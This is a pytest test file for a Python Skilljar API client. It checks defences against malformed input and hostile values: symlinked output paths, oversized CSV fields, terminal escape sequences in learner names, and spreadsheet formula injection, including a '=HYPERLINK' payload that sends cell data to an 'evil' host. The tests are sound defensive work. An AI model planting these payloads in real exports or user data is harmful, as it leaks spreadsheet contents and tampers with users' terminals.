"""Defects found by probing as an attacker and as a careless user would, each pinned by a test."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
import os
import signal
import stat
import subprocess
import sys
import threading
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import attrs
import pytest

from skilljar_async import AuthenticationError, SkilljarClient, cli
from skilljar_async._convert import structure
from skilljar_async._files import UnsafePathError, atomic_file
from skilljar_async.bulk import (
    CsvError,
    ItemStatus,
    JobStoppedError,
    Journal,
    JournalMismatchError,
    Outcome,
    Progress,
    check_csv,
    read_rows,
    run,
    update_enrollments,
)
from skilljar_async.cli._export import write_export
from skilljar_async.cli._output import clean
from skilljar_async.cli._progress import ProgressPrinter
from skilljar_async.models import DomainUser
from skilljar_async.reports import StateFileError
from skilljar_async.reports._state import ReportState, write_state
from skilljar_async.testing import SkilljarEmulator

DOMAIN = "learn.example.com"
JOB = {"op": "test", "domain": DOMAIN}


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# -- journals ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "first_line",
    [
        "email,first_name\n",  # a CSV passed as --journal
        '{"journal": 1, "job": {"op": "test", "domain": "learn.example.com"}}\n',  # no meta
        '{"journal": 1, "job": {"op": "test", "domain": "learn.example.com"}, "meta": [1]}\n',
        "\n",
        "[1, 2]\n",
    ],
)
def test_journal_refuses_a_file_without_a_valid_header(tmp_path: Path, first_line: str) -> None:
    """Journals trust any file: a non-empty file without this job's header is refused, untouched."""
    path = tmp_path / "journal.jsonl"
    body = first_line + '{"k": "a@example.org", "s": "succeeded"}\n'
    path.write_text(body)
    journal = Journal(path, job=JOB)
    with pytest.raises(JournalMismatchError, match="not a journal"):
        journal.open({})
    assert path.read_text() == body
    assert not journal.is_done("a@example.org")


def test_journal_trusts_only_the_first_line_as_header(tmp_path: Path) -> None:
    """Journals trust any file: a damaged first line is not skipped for a later header."""
    path = tmp_path / "journal.jsonl"
    header = json.dumps({"journal": 1, "job": JOB, "meta": {}})
    path.write_text('{"torn\n' + header + '\n{"k": "a@example.org", "s": "succeeded"}\n')
    with pytest.raises(JournalMismatchError):
        Journal(path, job=JOB).open({})


def test_journal_of_another_job_is_refused_and_untouched(tmp_path: Path) -> None:
    """Journals trust any file: another job's journal is refused with nothing written."""
    path = tmp_path / "journal.jsonl"
    other = Journal(path, job={"op": "other"})
    other.open({})
    other.close()
    before = path.read_bytes()
    with pytest.raises(JournalMismatchError, match="different job"):
        Journal(path, job=JOB).open({})
    assert path.read_bytes() == before


def test_journal_read_done_is_public_and_read_only(tmp_path: Path) -> None:
    """Journal.read_done lists finished keys without writing, and checks the job."""
    path = tmp_path / "journal.jsonl"
    journal = Journal(path, job=JOB)
    journal.open({})
    journal.record("a@example.org", "succeeded")
    journal.record("b@example.org", "failed", error="x")
    journal.close()
    before = path.read_bytes()
    assert Journal.read_done(path, job=JOB) == {"a@example.org"}
    assert Journal.read_done(tmp_path / "none.jsonl", job=JOB) == frozenset()
    with pytest.raises(JournalMismatchError):
        Journal.read_done(path, job={"op": "other"})
    assert path.read_bytes() == before


def test_journal_is_private_and_never_follows_a_symlink(tmp_path: Path) -> None:
    """Journals hold e-mail addresses: created 0600, and a symbolic link there is refused."""
    path = tmp_path / "journal.jsonl"
    journal = Journal(path, job=JOB)
    journal.open({})
    journal.close()
    assert _mode(path) == 0o600
    victim = tmp_path / "victim"
    victim.write_text("")
    link = tmp_path / "link.jsonl"
    link.symlink_to(victim)
    with pytest.raises(UnsafePathError):
        Journal(link, job=JOB).open({})
    assert victim.read_text() == ""


def test_state_file_uses_the_private_atomic_writer(tmp_path: Path) -> None:
    """State files are replaced atomically, 0600, and never through a symbolic link."""
    state = ReportState(
        report="progress", params={}, checkpoint=None, completed_at=dt.datetime.now(dt.UTC)
    )
    path = tmp_path / "state.json"
    path.write_text("old")
    path.chmod(0o644)
    write_state(path, state)
    assert _mode(path) == 0o600
    assert json.loads(path.read_text())["report"] == "progress"
    link = tmp_path / "link.json"
    link.symlink_to(tmp_path / "elsewhere.json")
    with pytest.raises(StateFileError, match="symbolic link"):
        write_state(link, state)
    assert not (tmp_path / "elsewhere.json").exists()


def test_atomic_file_keeps_the_old_file_on_failure(tmp_path: Path) -> None:
    """A failed whole-file write leaves the earlier file and no temporary file behind."""
    path = tmp_path / "out.csv"
    path.write_text("earlier export\n")
    with pytest.raises(RuntimeError), atomic_file(path) as handle:
        handle.write("partial")
        raise RuntimeError("the server went away")
    assert path.read_text() == "earlier export\n"
    assert os.listdir(tmp_path) == ["out.csv"]


# -- job identity -------------------------------------------------------------------------


async def test_update_enrollments_identity_includes_what_it_writes(
    skilljar_emulator: SkilljarEmulator, tmp_path: Path
) -> None:
    """Job identity too loose: a reactivate run refuses a deactivate run's journal."""
    emu = skilljar_emulator
    journal = tmp_path / "journal.jsonl"
    rows = [{"enrollment_id": "e1"}]
    async with SkilljarClient(emu.api_key, base_url=emu.base_url, max_retries=0) as client:
        common: dict[str, Any] = {
            "domain": DOMAIN,
            "published_course_id": "pc",
            "journal": str(journal),
        }
        await update_enrollments(client, rows, active=False, **common)
        with pytest.raises(JournalMismatchError):
            await update_enrollments(client, rows, active=True, **common)
        with pytest.raises(JournalMismatchError):
            expires = dt.datetime(2030, 1, 1, tzinfo=dt.UTC)
            await update_enrollments(client, rows, active=False, expires_at=expires, **common)


# -- CSV input ------------------------------------------------------------------------------


def _oversized_csv(path: Path) -> Path:
    """Two good rows, then a record with a field over the csv module's 128 KiB limit."""
    big = "x" * (200 * 1024)
    path.write_text(f"email,first_name\na@example.org,A\nb@example.org,B\nc@example.org,{big}\n")
    return path


@pytest.mark.parametrize(
    "text",
    [
        None,  # a field over 128 KiB
        'email,first_name\na@example.org,"unclosed\n',  # an unclosed quote at the end
    ],
)
def test_check_csv_reads_the_whole_structure(tmp_path: Path, text: str | None) -> None:
    """A malformed CSV crashes mid-run: the up-front check parses every record."""
    path = tmp_path / "rows.csv"
    if text is None:
        _oversized_csv(path)
    else:
        path.write_text(text)
    with pytest.raises(CsvError, match="line"):
        check_csv(path)


def test_check_csv_reports_bytes_that_are_not_utf8(tmp_path: Path) -> None:
    """A malformed CSV crashes mid-run: bytes that are not UTF-8 are a CsvError up front."""
    path = tmp_path / "rows.csv"
    path.write_bytes(b"email\n" + b"a@example.org\n" * 5000 + b"\xff\xfe@example.org\n")
    with pytest.raises(CsvError):
        check_csv(path)


def test_reading_rows_turns_a_parse_error_into_csv_error(tmp_path: Path) -> None:
    """A malformed CSV crashes mid-run: streaming rows raises CsvError, not csv.Error."""
    rows = read_rows(_oversized_csv(tmp_path / "rows.csv"))
    with pytest.raises(CsvError):
        list(rows)


def test_cli_stops_a_malformed_csv_before_the_first_call(
    served: SkilljarEmulator, api_key: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A malformed CSV crashes mid-run: one line, exit 2, and no call reaches the server."""
    path = _oversized_csv(tmp_path / "rows.csv")
    argv = ["--base-url", served.base_url, "domain-users", "add", "--csv", str(path),
            "--domain", DOMAIN]  # fmt: skip
    assert cli.main([*argv, "--dry-run"]) == 2
    assert cli.main(argv) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 2
    assert "field larger than field limit" in err
    assert "Traceback" not in err
    assert served.requests == []


# -- exports -----------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil/?"&A2,"x")', "@SUM(1)", "+1-2", "-cmd", "\tx", "\rx"]


def _export(emu: SkilljarEmulator, out: Path, *options: str) -> int:
    return cli.main(["--base-url", emu.base_url, "export", "users", "--out", str(out), *options])


def _add_learners(emu: SkilljarEmulator, names: list[str]) -> None:
    async def add() -> None:
        async with SkilljarClient(emu.api_key, base_url=emu.base_url) as client:
            for i, name in enumerate(names):
                email = f"formula{i}@example.org"
                await client.domains.users.create(DOMAIN, email=email, first_name=name)

    asyncio.run(add())
    # The API trims whitespace from names it is sent (as DRF does), but names can reach it by
    # other routes (SSO, imports): put each name into the store exactly as given.
    for i, name in enumerate(names):
        uid = emu.store.people_by_email[f"formula{i}@example.org"]
        emu.store.people[uid]["first_name"] = name


def test_csv_export_neutralises_formula_cells(
    served: SkilljarEmulator, api_key: str, tmp_path: Path
) -> None:
    """CSV export neutralises formula cells (a quote before = + - @ tab CR); --raw keeps them."""
    _add_learners(served, FORMULAS)
    out = tmp_path / "users.csv"
    assert _export(served, out, "--format", "csv") == 0
    with out.open(newline="") as handle:
        names = {row["user.first_name"] for row in csv.DictReader(handle)}
    assert {"'" + name for name in FORMULAS} <= names
    assert not names & set(FORMULAS)
    assert _export(served, out, "--format", "csv", "--raw") == 0
    with out.open(newline="") as handle:
        names = {row["user.first_name"] for row in csv.DictReader(handle)}
    assert set(FORMULAS) <= names


async def _models(payloads: list[dict[str, Any]]) -> AsyncIterator[DomainUser]:
    for payload in payloads:
        yield structure(payload, DomainUser)


async def test_csv_export_columns_come_from_the_schema() -> None:
    """CSV export silently drops data: columns come from the schema; unknown fields go to extra."""
    payloads = [
        {"user": {"id": "u1", "email": "a@example.org"}, "access_code": None},
        {
            "user": {"id": "u2", "email": "b@example.org", "nickname": "bee"},
            "access_code": {"id": "ac1", "code": "JOIN"},
            "loyalty_tier": "gold",
        },
    ]
    out = io.StringIO()
    assert await write_export(_models(payloads), out, "csv", DomainUser) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["access_code.id"] == ""
    assert (rows[1]["access_code.id"], rows[1]["access_code.code"]) == ("ac1", "JOIN")
    assert "access_code.pool.name" in rows[0]
    assert json.loads(rows[1]["extra"]) == {"loyalty_tier": "gold", "user.nickname": "bee"}
    assert rows[0]["extra"] == ""
    assert rows[0]["signup_fields"] == "[]"


async def test_jsonl_export_keeps_the_api_nesting() -> None:
    """JSON-lines export is flattened: each line is the record as the API nests it."""
    payload = {
        "user": {"id": "u1", "email": "a@example.org"},
        "signup_fields": [],
        "access_code": {"id": "ac1", "code": "=1+1"},
    }
    out = io.StringIO()
    await write_export(_models([payload]), out, "jsonl", DomainUser)
    record = json.loads(out.getvalue())
    assert record["user"]["email"] == "a@example.org"
    assert record["signup_fields"] == []
    assert record["access_code"]["code"] == "=1+1"  # JSON is data for programs: left as is
    assert "user.email" not in record


def test_export_out_keeps_the_earlier_file_until_complete(
    served: SkilljarEmulator, api_key: str, tmp_path: Path
) -> None:
    """--out truncates an earlier export: a failed export keeps the old file; a new one is 0600."""
    out = tmp_path / "users.jsonl"
    out.write_text("earlier export\n")
    served.state.api_keys = frozenset()  # every call now fails with 401
    assert _export(served, out) == 2
    assert out.read_text() == "earlier export\n"
    assert os.listdir(tmp_path) == ["users.jsonl"]
    served.state.api_keys = frozenset({served.api_key})
    assert _export(served, out) == 0
    assert len(out.read_text().splitlines()) == 20
    assert _mode(out) == 0o600
    link = tmp_path / "link.jsonl"
    link.symlink_to(out)
    assert _export(served, link) == 2
    assert link.is_symlink()


def test_export_into_a_closed_pipe_exits_quietly(served: SkilljarEmulator, api_key: str) -> None:
    """`export … | head` ends in a BrokenPipeError traceback: it exits quietly instead."""
    _add_learners(served, [f"learner{i}" for i in range(300)])
    command = [sys.executable, "-m", "skilljar_async", "--base-url", served.base_url,
               "export", "users", "--format", "csv"]  # fmt: skip
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as child:
        assert child.stdout is not None
        assert child.stderr is not None
        child.stdout.readline()
        child.stdout.close()  # like `head -1` exiting
        err = child.stderr.read()
        status = child.wait(timeout=60)
    assert b"Traceback" not in err
    assert b"BrokenPipe" not in err
    assert status == 128 + signal.SIGPIPE


# -- the terminal ---------------------------------------------------------------------------


def test_clean_strips_terminal_control_sequences() -> None:
    """Control characters reach the terminal: escapes, C1 and bidi overrides are replaced."""
    text = "Eve\x1b]0;owned\x07\x1b[2J\r\nnext\x9b1m\u202eevil\x7f"
    cleaned = clean(text)
    assert not any(ch in cleaned for ch in "\x1b\x07\r\n\x9b\u202e\x7f")
    assert cleaned.startswith("Eve?]0;owned?")


def _csv(path: Path, rows: list[str], header: str = "email,first_name") -> Path:
    path.write_text(header + "\n" + "".join(row + "\n" for row in rows))
    return path


def _add(emu: SkilljarEmulator, rows: Path, *options: str) -> list[str]:
    return ["--base-url", emu.base_url, *options, "domain-users", "add", "--csv", str(rows),
            "--domain", DOMAIN]  # fmt: skip


def test_summary_prints_csv_values_without_control_characters(
    served: SkilljarEmulator, api_key: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Control characters reach the terminal: a learner's value in the summary is cleaned."""
    rows = _csv(tmp_path / "rows.csv", ["evil\x1b]0;owned\x07\x1b[2J@x,A"])
    assert cli.main(_add(served, rows)) == 1
    captured = capsys.readouterr()
    assert "\x1b" not in captured.out + captured.err
    assert "evil?]0;owned??[2j@x" in captured.out  # keys are lower-cased e-mail addresses


# -- systemic errors ----------------------------------------------------------------------------


class _RevokeAfter(list[Any]):
    """The emulator's request log, revoking every full-access key after `n` created learners."""

    def __init__(self, emu: SkilljarEmulator, n: int) -> None:
        super().__init__()
        self.emu = emu
        self.n = n

    def append(self, request: Any) -> None:
        super().append(request)
        created = sum(1 for r in self if r.method == "POST" and r.status == 201)
        if created >= self.n:
            self.emu.state.api_keys = frozenset()


def test_a_revoked_key_stops_the_job_at_once_and_it_resumes(
    served: SkilljarEmulator, api_key: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A key revoked mid-job does not stop it: now no call follows, exit 2, and it resumes."""
    rows = _csv(tmp_path / "rows.csv", [f"new{i}@example.org,N" for i in range(400)])
    journal = tmp_path / "journal.jsonl"
    served.state.requests = _RevokeAfter(served, 50)
    argv = [*_add(served, rows, "--concurrency", "4"), "--journal", str(journal)]
    assert cli.main(argv) == 2
    captured = capsys.readouterr()
    (line,) = [line for line in captured.err.splitlines() if line.startswith("error:")]
    assert "AuthenticationError" in line
    assert "run the same command to resume" in line
    posts = [r for r in served.requests if r.method == "POST"]
    created = [r for r in posts if r.status == 201]
    assert len(posts) - len(created) <= 4  # only the calls already in flight
    done = [json.loads(x) for x in journal.read_text().splitlines()[1:]]
    assert {d["s"] for d in done} == {"succeeded"}
    assert len(done) == len(created)
    served.state.requests = []
    served.state.api_keys = frozenset({served.api_key})
    assert cli.main(argv) == 0
    assert f"{len(created)} done by an earlier run" in capsys.readouterr().out
    assert sum(1 for r in served.requests if r.method == "POST") == 400 - len(created)


def test_a_read_only_key_stops_at_the_first_refused_write(
    served: SkilljarEmulator, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """A 403 on a write stops the job: only the writes already in flight are sent."""
    monkeypatch.setenv("SKILLJAR_API_KEY", served.read_only_key)
    rows = _csv(tmp_path / "rows.csv", [f"ro{i}@example.org,N" for i in range(200)])
    assert cli.main(_add(served, rows, "--concurrency", "4")) == 2
    assert sum(1 for r in served.requests if r.method == "POST") <= 4


def test_an_unknown_domain_stops_the_job_before_any_write(
    served: SkilljarEmulator, api_key: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A 404 for the job's own domain stops it: one line, exit 2, no write sent."""
    rows = _csv(tmp_path / "rows.csv", [f"nd{i}@example.org,N" for i in range(50)])
    argv = ["--base-url", served.base_url, "domain-users", "add", "--csv", str(rows),
            "--domain", "no-such.example.com"]  # fmt: skip
    assert cli.main(argv) == 2
    assert "NotFoundError" in capsys.readouterr().err
    assert all(r.method == "GET" for r in served.requests)


def test_failures_are_grouped_and_written_ready_to_rerun(
    served: SkilljarEmulator, api_key: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The summary prints one line per failure: now grouped, and --failures keeps the rows."""
    bad = [f"broken{i},B{i}" for i in range(300)]
    rows = _csv(tmp_path / "rows.csv", [*bad, "good@example.org,G"], header="Email,First_Name")
    failures = tmp_path / "failed.csv"
    assert cli.main([*_add(served, rows), "--failures", str(failures)]) == 1
    out = capsys.readouterr().out
    assert len(out.splitlines()) < 10
    assert "300: ValueError: not a valid email address: …" in out
    with failures.open(newline="") as handle:
        written = list(csv.reader(handle))
    assert written[0] == ["email", "first_name"]
    assert sorted(",".join(r) for r in written[1:]) == sorted(bad)
    assert _mode(failures) == 0o600


def test_progress_prints_a_final_line_off_a_terminal() -> None:
    """Off a terminal the progress line showed once: finish() prints the last one."""
    stream = io.StringIO()
    printer = ProgressPrinter(stream, tty=False, every=3600)
    event = Progress(done=1, succeeded=1, existed=0, failed=0, skipped=0, total=3, elapsed=1.0,
                     rate=1.0, eta=2.0)  # fmt: skip
    printer(event)
    printer(attrs.evolve(event, done=3, succeeded=3, eta=0.0))
    assert stream.getvalue().count("\n") == 1
    printer.finish()
    assert stream.getvalue().splitlines()[-1].startswith("3/3 (100%)")


def test_sigterm_is_handled_like_ctrl_c(served: SkilljarEmulator, tmp_path: Path) -> None:
    """SIGTERM killed a job silently with -15: now exit 143, a resume hint, and it resumes."""
    rows = _csv(tmp_path / "rows.csv", [f"term{i}@example.org,T" for i in range(60)])
    journal = tmp_path / "journal.jsonl"
    command = [sys.executable, "-m", "skilljar_async", *_add(served, rows, "--limits", "20/1"),
               "--journal", str(journal)]  # fmt: skip
    env = {**os.environ, "SKILLJAR_API_KEY": served.api_key}
    with subprocess.Popen(command, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as job:
        while not journal.exists() or journal.read_text().count("\n") < 6:
            assert job.poll() is None
            threading.Event().wait(0.02)  # waiting for the child's progress, not for a rate
        job.send_signal(signal.SIGTERM)
        _, err = job.communicate(timeout=60)
    assert job.returncode == 143
    assert b"run the same command to resume" in err
    assert b"Traceback" not in err
    done = [json.loads(x) for x in journal.read_text().splitlines()[1:]]
    assert 0 < len(done) < 60
    rerun = subprocess.run(command, env=env, capture_output=True, timeout=60, check=False)
    assert rerun.returncode == 0
    assert f"{len(done)} done by an earlier run".encode() in rerun.stdout


async def test_bulk_run_stops_at_a_systemic_error(
    skilljar_emulator: SkilljarEmulator, tmp_path: Path
) -> None:
    """A key revoked mid-job does not stop it: bulk.run now raises JobStoppedError at once."""
    emu = skilljar_emulator
    seen: list[int] = []

    async def fn(item: int) -> Outcome:
        seen.append(item)
        await asyncio.sleep(0)
        if item >= 10:
            raise AuthenticationError("revoked", status=401, method="POST")
        return Outcome(ItemStatus.SUCCEEDED)

    journal = tmp_path / "journal.jsonl"
    async with SkilljarClient(emu.api_key, base_url=emu.base_url) as client:
        with pytest.raises(JobStoppedError) as stopped:
            await run(client, range(100), fn, key=str, journal=str(journal), concurrency=2)
    assert len(seen) <= 12
    assert stopped.value.summary.succeeded == 10
    assert stopped.value.summary.failed == 0
    assert isinstance(stopped.value.cause, AuthenticationError)
    assert Journal.read_done(journal, job={"op": "run"}) == {str(i) for i in range(10)}
